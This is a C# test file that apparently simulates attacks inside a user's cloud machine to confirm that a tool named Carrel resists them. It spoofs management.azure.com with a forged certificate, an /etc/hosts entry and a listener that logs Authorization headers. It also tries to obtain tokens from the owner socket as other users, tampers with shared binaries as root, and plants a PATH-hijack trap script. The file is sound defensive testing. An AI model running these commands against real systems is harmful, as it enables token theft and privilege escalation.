namespace Carrel.Attack.Machines;

/// <summary>What a program or another user inside Ann's machine tries with the command line and her single sign-on, while she is signed in.</summary>
public sealed class InsideTests(Target target) : IAsyncLifetime
{
    // Takes the name of Azure itself, for which the server gives tokens too, and notes what it is sent.
    private const string Listener = """
        import http.server, ssl
        class Note(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                open("/tmp/noted", "a").write(self.path + " " + str(self.headers.get("Authorization")) + "\n")
                self.send_response(200); self.send_header("Content-Length", "12"); self.end_headers(); self.wfile.write(b'{"value":[]}')
            def log_message(self, *_): pass
        server = http.server.HTTPServer(("127.0.0.1", 443), Note)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); context.load_cert_chain("/tmp/evil.pem")
        server.socket = context.wrap_socket(server.socket, server_side=True)
        server.serve_forever()
        """;

    private string _anns = "";
    private Browser _browser = null!;

    public async ValueTask InitializeAsync()
    {
        _anns = await target.ContainerAsync("ann-desk");
        _browser = await target.Ann.InsideAsync(target.Origin("ann-desk"));
        (await TypeAsync("carrel compute show ann-desk")).Code.ShouldBe(0, "Ann herself works");
    }

    public ValueTask DisposeAsync()
    {
        _browser.Dispose();
        return ValueTask.CompletedTask;
    }

    [Fact(DisplayName = "A76 The command line inside a machine, led to another server by its environment")]
    public async Task The_command_line_led_elsewhere()
    {
        (await TypeAsync("openssl req -x509 -newkey rsa:2048 -nodes -keyout /tmp/evil.key -out /tmp/evil.crt -days 1 -subj /CN=evil -addext subjectAltName=DNS:management.azure.com,DNS:localhost && cat /tmp/evil.key /tmp/evil.crt > /tmp/evil.pem"))
            .Code.ShouldBe(0);
        await DockerObjects.RunAsync("exec", _anns, "sh", "-c", "echo '127.0.0.1 management.azure.com # evil' >> /etc/hosts");
        await DockerObjects.RunAsync("exec", "-d", _anns, "python3", "-c", Listener);
        try
        {
            const string hostile = "export CARREL_CA=/tmp/evil.crt SSL_CERT_FILE=/tmp/evil.crt;";
            (await TypeAsync("curl -s --retry 20 --retry-connrefused --retry-delay 1 --cacert /tmp/evil.crt -H 'Authorization: told' https://management.azure.com/control; cat /tmp/noted")).Output
                .ShouldContain("/control told", customMessage: "what is sent there is noted");
            foreach (string elsewhere in (string[])["https://management.azure.com", "https://MANAGEMENT.azure.com:443/", "https://localhost"])
            {
                (int code, string output) = await TypeAsync($"{hostile} CARREL_URL={elsewhere} carrel compute list");
                code.ShouldBe(3, output);
                output.ShouldContain("is for its own server");
            }

            (await TypeAsync("grep -c Bearer /tmp/noted")).Output.Trim().ShouldBe("0");
        }
        finally
        {
            await DockerObjects.RunAsync("exec", _anns, "sh", "-c", "kill $(grep -lz http.server /proc/[0-9]*/cmdline | cut -d/ -f3) ; grep -v '# evil' /etc/hosts > /tmp/hosts; cat /tmp/hosts > /etc/hosts; rm -f /tmp/evil.* /tmp/noted /tmp/hosts");
        }
    }

    [Fact(DisplayName = "A77 The owner's socket, asked by other users of the machine, one of its user's group included")]
    public async Task The_owners_socket()
    {
        const string ask = "curl -s -m 5 -o /dev/null -w '%{http_code}' --unix-socket /run/carrel/owner.sock http://owner/token?resource=https://management.azure.com";
        (await DockerObjects.ExecuteAsync(_anns, ask)).ShouldBe("200", "the machine's user gets one");
        foreach (string user in (string[])["65534", "4242", "4242:1000", "4242:0"])
            (await DockerObjects.RunAsync("exec", "-u", user, _anns, "sh", "-c", ask)).Output.ShouldNotContain("200", customMessage: user);
    }

    [Fact(DisplayName = "A78 The programs that all machines share, changed by root in one of them")]
    public async Task Programs_of_all_machines()
    {
        string before = await SumAsync();
        foreach (string change in (string[])
                 [
                     "cp /bin/true /opt/carrel/agent/carrel", "echo x >> /opt/carrel/agent/carrel-agent", "mv /opt/carrel/agent/carrel /opt/carrel/agent/x", "rm -f /opt/carrel/agent/carrel",
                     "chmod 0777 /opt/carrel/agent/carrel", "touch /opt/carrel/agent/x", "mount -o remount,rw /opt/carrel/agent", "umount /opt/carrel/agent", "ln -f /bin/true /opt/carrel/agent/carrel",
                 ])
            (await DockerObjects.RunAsync("exec", "-u", "root", _anns, "sh", "-c", change)).Code.ShouldNotBe(0, change);
        (await SumAsync()).ShouldBe(before);
    }

    [Fact(DisplayName = "A79 Another program under the name carrel or az, found first by whatever of Carrel's runs as root")]
    public async Task Another_program_under_the_name()
    {
        const string trap = "printf '#!/bin/sh\\nid >> /tmp/trapped\\n' > /tmp/trap; chmod 755 /tmp/trap; for name in carrel az sv carrel-agent; do sudo ln -sf /tmp/trap /usr/local/sbin/$name; done";
        (await TypeAsync(trap)).Code.ShouldBe(0);
        try
        {
            // The agent applies settings, switches services and notes a process: none of it looks a program up by name.
            ((int)(await target.Administrator.SendAsync(HttpMethod.Patch, target.AnnsDesk, "{\"identity\":{\"type\":\"SystemAssigned\"}}")).Status).ShouldBe(200);
            for (int tries = 0; tries < 100 && !(await TypeAsync("cat /etc/environment.sso")).Output.Contains("MSI_SECRET", StringComparison.Ordinal); tries++)
                await Task.Delay(200);
            (await TypeAsync("cat /etc/environment.sso")).Output.ShouldContain("MSI_SECRET", customMessage: "the settings were applied");
            (await TypeAsync("PATH=/usr/local/sbin:$PATH /usr/local/bin/carrel keep-awake --pid 1")).Output.ShouldContain("stays up while process 1 lives");
            (await TypeAsync("cat /tmp/trapped")).Code.ShouldNotBe(0);
            (await TypeAsync("/usr/local/sbin/carrel; cat /tmp/trapped")).Output.ShouldContain("uid=1000", customMessage: "the trap works");
        }
        finally
        {
            await TypeAsync("sudo rm -f /usr/local/sbin/carrel /usr/local/sbin/az /usr/local/sbin/sv /usr/local/sbin/carrel-agent /tmp/trap /tmp/trapped");
            await target.Administrator.SendAsync(HttpMethod.Patch, target.AnnsDesk, "{\"identity\":{\"type\":\"None\"}}");
        }
    }

    private Task<(int Code, string Output)> TypeAsync(string command) => DockerObjects.RunAsync("exec", "-u", "azureuser", _anns, "bash", "-lc", command);

    private Task<string> SumAsync() => DockerObjects.ExecuteAsync(_anns, "ls -l /opt/carrel/agent; sha256sum /opt/carrel/agent/*");
}
